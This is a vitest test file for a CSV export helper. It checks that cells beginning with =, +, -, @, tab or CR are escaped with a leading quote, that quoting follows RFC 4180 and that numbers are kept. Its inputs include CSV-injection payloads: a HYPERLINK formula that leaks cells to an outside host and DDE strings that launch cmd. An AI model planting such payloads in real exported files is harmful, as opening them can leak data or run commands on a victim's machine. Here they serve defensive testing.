import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { csvRows } from '@/lib/export/write-csv';

const cell = (value: string | number | null) => csvRows([[value]]).slice(0, -2);

// Formula escaping: OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
// (cells starting with = + - @ tab or CR; prefix a single quote and quote the cell). The payloads
// below are the page's examples as we recall them (from memory). Quoting: RFC 4180 §2 (6, 7).
describe('csvRows', () => {
  it.each([
    ['=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")', `"'=HYPERLINK(""http://contextis.co.uk?leak=""&A1&A2,""Error: please click for further information"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('escapes the OWASP example %j', (raw, expected) => {
    expect(cell(raw)).toBe(expected);
  });

  it('escapes "=A\\nB" and keeps its line break inside one quoted cell', () => {
    expect(cell('=A\nB')).toBe(`"'=A\nB"`);
    expect(Papa.parse<string[]>(csvRows([['=A\nB', 'x']])).data[0]).toEqual(["'=A\nB", 'x']);
  });

  it('keeps plain numbers as numbers, as numbers or as text: "-12.5" stays -12.5', () => {
    expect(cell(-12.5)).toBe('-12.5');
    expect(cell('-12.5')).toBe('-12.5');
    expect(cell('+4')).toBe('+4');
    expect(cell('-1e-3')).toBe('-1e-3');
    expect(cell('-')).toBe(`"'-"`); // a lone sign is not a number
  });

  it('writes missing and non-finite numbers as empty cells, quotes per RFC 4180 and ends rows with CRLF', () => {
    expect(csvRows([[1, null, undefined, Number.NaN, 'a']])).toBe('1,,,,a\r\n');
    expect(cell('Three cross passes 30/60/100 %, circular check')).toBe('"Three cross passes 30/60/100 %, circular check"');
    expect(cell('say "even"')).toBe('"say ""even"""');
    expect(csvRows([['a', 'b'], [1, 2]])).toBe('a,b\r\n1,2\r\n');
    expect(csvRows([])).toBe('');
  });
});
